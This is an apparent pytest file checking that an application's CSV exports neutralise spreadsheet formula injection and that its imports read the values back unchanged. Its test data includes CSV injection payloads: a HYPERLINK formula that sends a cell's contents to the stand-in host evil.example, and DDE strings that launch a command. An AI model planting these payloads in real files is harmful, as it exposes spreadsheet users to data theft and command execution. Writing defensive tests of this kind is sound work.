"""CSV formula injection: every download neutralises cells a spreadsheet would run, and imports
take the product's own exports back unchanged."""

from __future__ import annotations

import csv
import io
import json

import pytest

from models.db import SessionFactory
from models.partner import Partner
from services import csv_files, directory_import, export
from services.import_files import read_csv

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted once",
    "''+twice",
]
PLAIN = ["", "Damp and mould", "'Tis the season", "Survey – every flat", 'a,b "quoted"\nnext']


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_gets_an_apostrophe_that_reading_takes_off(value: str) -> None:
    written = csv_files.neutralise(value)
    assert written == "'" + value
    assert not written.startswith(csv_files.FORMULA_STARTS)
    assert csv_files.restore(written) == value


@pytest.mark.parametrize("value", PLAIN)
def test_other_cells_are_written_as_they_are(value: str) -> None:
    assert csv_files.neutralise(value) == value
    assert csv_files.restore(value) == value


def test_numbers_stay_numbers_and_control_characters_go() -> None:
    assert csv_files.neutralise(-5) == -5
    assert csv_files.neutralise("Done\x00 today") == "Done today"
    assert csv_files.neutralise("\x00=1+1") == "'=1+1"


def test_what_is_written_reads_back_cell_for_cell() -> None:
    rows = [["name", "note"], *([value, f"line {i}"] for i, value in enumerate(FORMULAS + PLAIN))]
    text = csv_files.write_rows(rows)
    raw = list(csv.reader(io.StringIO(text)))
    assert all(not cell.startswith(csv_files.FORMULA_STARTS) for row in raw for cell in row)
    back = list(csv_files.read_rows(text))
    assert [[r["name"], r["note"]] for r in back] == rows[1:]


def test_the_session_export_neutralises_and_imports_back_unchanged() -> None:
    theme = '=HYPERLINK("https://evil.example","Click")'
    data = {
        "sessions": [
            {
                "id": "case:6f1b2c77-61a4-4b0c-9d0e-7c1d1e0f5a3b",
                "board": "tht",
                "meeting_date": "2026-01-14",
                "board_month": "2026-01",
                "status": "held",
                "theme": theme,
                "said": "-Residents said the mould returns",
                "presenters": [{"name": "@Amina Begum"}],
                "outcome": None,
                "noted": [],
                "actions": [
                    {
                        "seq": 1,
                        "text": "+Survey every flat",
                        "owner": "=Mary Owner",
                        "owner_email": None,
                        "partner": None,
                        "due_date": "2026-03-31",
                        "status": "in_progress",
                        "rag": "green",
                        "rag_cause": "",
                        "closed_at": None,
                        "closed_on_time": None,
                        "updates": [],
                    }
                ],
            }
        ]
    }
    text = export.to_csv(data)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert all(not cell.startswith(csv_files.FORMULA_STARTS) for cell in cells)
    assert "'" + theme in cells
    [item] = read_csv(text, board="tht")
    assert item.errors == []
    assert item.body is not None
    assert item.body.theme == theme
    assert item.body.said == "-Residents said the mould returns"
    assert item.body.actions[0].text == "+Survey every flat"
    assert item.body.actions[0].owner_as_written == "=Mary Owner"
    assert item.body.presenters[0].name == "@Amina Begum"
    assert json.loads(next(r for r in csv_files.read_rows(text))["presenters"]) == [
        {"name": "@Amina Begum"}
    ]


def test_the_directory_export_neutralises_and_imports_back_as_no_change(
    sessions: SessionFactory,
) -> None:
    with sessions() as session:
        session.add(Partner(name='=HYPERLINK("https://evil.example")', kind="+council"))
        session.commit()
        text = directory_import.export_csv(session=session)
        assert "'=HYPERLINK" in text and "'+council" in text
        result = directory_import.import_csv(session=session, text=text, dry_run=False)
        assert result.ok, result.rows
        assert [r.outcome for r in result.rows] == ["No change: already in the directory"]


def test_a_directory_import_refuses_control_characters_naming_the_column(
    sessions: SessionFactory,
) -> None:
    text = "partner,owner_name,owner_email\nBarts Health,Mary\x00 Owner,mary@example.org\n"
    with sessions() as session:
        result = directory_import.import_csv(session=session, text=text, dry_run=False)
    assert not result.ok and not result.written
    assert "owner_name" in result.rows[0].errors[0]
    assert "control character (U+0000 NUL)" in result.rows[0].errors[0]
